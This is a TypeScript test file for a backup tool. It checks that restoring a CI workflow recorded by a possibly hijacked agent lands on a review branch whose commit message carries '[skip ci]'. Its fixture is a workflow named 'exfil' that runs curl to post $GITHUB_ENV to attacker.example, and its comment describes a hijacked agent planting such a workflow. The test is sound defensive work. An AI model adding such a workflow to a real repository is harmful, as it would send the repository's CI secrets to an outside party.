import { describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { CliWorkspace } from '../helpers/cli.js';
import { sh } from '../helpers/git.js';
import { fastImport, initBare } from '../helpers/git-fast.js';

/**
 * A restored pipeline goes on a branch "for review", but a push to any branch runs most CI with the
 * repository's secrets, and the file is the snapshot's writer's bytes: a hijacked agent records a
 * workflow that sends them away, the live repository lacks it ("pipeline deleted"), and the
 * operator's restore would run it before anyone reviewed it. The commit says `[skip ci]`.
 */
describe("a pipeline a hijacked agent recorded, restored onto a review branch", () => {
  it('is pushed in a commit CI skips ([skip ci] in its message), never onto the default branch', async () => {
    const ws = new CliWorkspace();
    await ws.setupQuick();
    const live = join(ws.dir, 'live.git');
    initBare(live);
    const evil = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';
    fastImport(live, [{ ref: 'refs/heads/main', files: { 'README.md': '# app\n', '.github/workflows/exfil.yml': evil } }]);
    await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `app=git:${live}`]);
    fastImport(live, [{ ref: 'refs/heads/main', from: 'refs/heads/main^0', files: { '.github/workflows/exfil.yml': null }, message: 'the live repository never had it' }]);

    await ws.hereOk(ws.operator('restore', 'latest:app', '--pipeline', '.github/workflows/exfil.yml', '--target', live, '--as-branch', 'restore-exfil'));
    expect(sh(live, 'log', '-1', '--format=%s', 'restore-exfil')).toMatch(/\[skip ci\]/);
    expect(sh(live, 'show', 'restore-exfil:.github/workflows/exfil.yml')).toBe(evil.trimEnd());
    expect(sh(live, 'ls-tree', '--name-only', 'main', '.github/workflows/')).toBe('');
  });
});
